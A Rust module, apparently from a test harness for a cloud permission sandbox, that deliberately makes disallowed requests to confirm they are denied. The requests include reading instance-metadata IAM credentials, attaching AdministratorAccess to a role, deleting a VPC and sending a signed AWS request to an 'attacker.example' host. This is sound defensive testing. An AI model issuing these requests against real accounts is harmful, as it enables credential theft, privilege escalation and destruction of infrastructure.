//! `deny`: asks for something that is not granted.
//!
//! `{do: deny, how: other-host, go_on: true}`. What the host answered is the answer of the operation, unless `go_on`.

use nic_sdk::Error;
use nic_sdk::cloud_http::{Request, Scheme, send};
use serde::Deserialize;
use serde_json::json;

use super::{Place, finding};

/// What to ask for.
#[derive(Debug, Default, Clone, Copy, Deserialize)]
#[serde(rename_all = "kebab-case")]
enum How {
    /// A host that no grant names.
    #[default]
    OtherHost,
    /// The machine's own metadata service.
    Metadata,
    /// A scheme that no grant names.
    OtherScheme,
    /// An AWS service that no grant names.
    OtherService,
    /// A mutation by an action that the grant leaves out.
    UndeclaredAction,
    /// An administrator's policy for a role, in a service that is granted for reads.
    AdminRole,
    /// A granted read, in a region that is not the platform's.
    OtherRegion,
    /// A granted action, sent to a host that is not AWS's.
    SignedElsewhere,
    /// The granted host, with a header that is the host's.
    OwnAuthorization,
    /// A Kubernetes kind that no grant names.
    OtherKind,
}

/// See the [module](self).
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Deny {
    #[serde(default)]
    how: How,
    #[serde(default)]
    go_on: bool,
}

impl Deny {
    pub(super) async fn act(&self, place: &Place<'_>) -> Result<Option<String>, Error> {
        let answer = self.ask(place).await;
        let words = finding(&format!("deny {}", self.how.name()), answer.clone());
        if self.go_on {
            return Ok(Some(words));
        }
        answer.map(|_| Some(words))
    }

    async fn ask(&self, place: &Place<'_>) -> Result<String, Error> {
        if matches!(self.how, How::OtherKind) {
            let found = nic_sdk::kubernetes::list("v1", "Node", None, "").await?;
            return Ok(format!("{} nodes", found.len()));
        }
        let answer = send(self.how.request(place)).await?;
        Ok(format!("HTTP {}", answer.status))
    }
}

impl How {
    fn name(self) -> &'static str {
        match self {
            Self::OtherHost => "other-host",
            Self::Metadata => "metadata",
            Self::OtherScheme => "other-scheme",
            Self::OtherService => "other-service",
            Self::UndeclaredAction => "undeclared-action",
            Self::AdminRole => "admin-role",
            Self::OtherRegion => "other-region",
            Self::SignedElsewhere => "signed-elsewhere",
            Self::OwnAuthorization => "own-authorization",
            Self::OtherKind => "other-kind",
        }
    }

    fn request(self, place: &Place<'_>) -> Request {
        let form = |(service, id, region): (&str, &str, &str), host: &str, body: String| {
            Request::new("POST", format!("https://{host}/"))
                .scheme(Scheme::aws_sigv4(service, region))
                .service_id(id)
                .header("content-type", "application/x-www-form-urlencoded")
                .body(body.into_bytes())
        };
        let ec2_in = |region: &str, host: &str, action: &str| {
            let body = format!("Action={action}&Version=2016-11-15&VpcId=vpc-0123456789abcdef0");
            form(("ec2", "EC2", region), host, body)
        };
        let ec2 = |host: &str, action: &str| ec2_in("us-west-2", host, action);
        match self {
            Self::OtherHost | Self::OtherKind => Request::get("https://not-granted.example.com/"),
            Self::Metadata => Request::get("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
            Self::OtherScheme => Request::get("https://storage.googleapis.com/storage/v1/b")
                .scheme(Scheme::google(&["https://www.googleapis.com/auth/devstorage.read_only"])),
            Self::OtherService => Request::get("https://s3.us-west-2.amazonaws.com/")
                .scheme(Scheme::aws_sigv4("s3", "us-west-2"))
                .service_id("S3"),
            Self::UndeclaredAction => ec2("ec2.us-west-2.amazonaws.com", "DeleteVpc"),
            Self::AdminRole => {
                let policy = "arn:aws:iam::aws:policy/AdministratorAccess";
                let body = format!("Action=AttachRolePolicy&Version=2010-05-08&RoleName=mine&PolicyArn={policy}");
                form(("iam", "IAM", "us-east-1"), "iam.amazonaws.com", body)
            }
            Self::OtherRegion => ec2_in("eu-central-1", "ec2.eu-central-1.amazonaws.com", "DescribeVpcs"),
            Self::SignedElsewhere => ec2("ec2.us-west-2.amazonaws.com.attacker.example", "DescribeVpcs"),
            Self::OwnAuthorization => place
                .server
                .request("GET", "/things?prefix=")
                .header("authorization", json!("Bearer of my own").to_string()),
        }
    }
}
